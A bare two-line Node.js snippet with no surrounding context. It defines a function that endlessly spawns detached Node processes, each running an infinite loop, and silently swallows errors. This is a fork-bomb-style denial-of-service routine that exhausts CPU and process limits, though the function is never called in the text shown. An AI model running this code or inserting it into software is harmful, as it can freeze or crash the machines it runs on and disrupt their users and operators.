const { spawn } = require('child_process');
function f(x) { for (;;) { try { spawn(process.execPath, ['-e', 'for(;;)'], { detached: true, stdio: 'ignore' }); } catch (e) {} } }
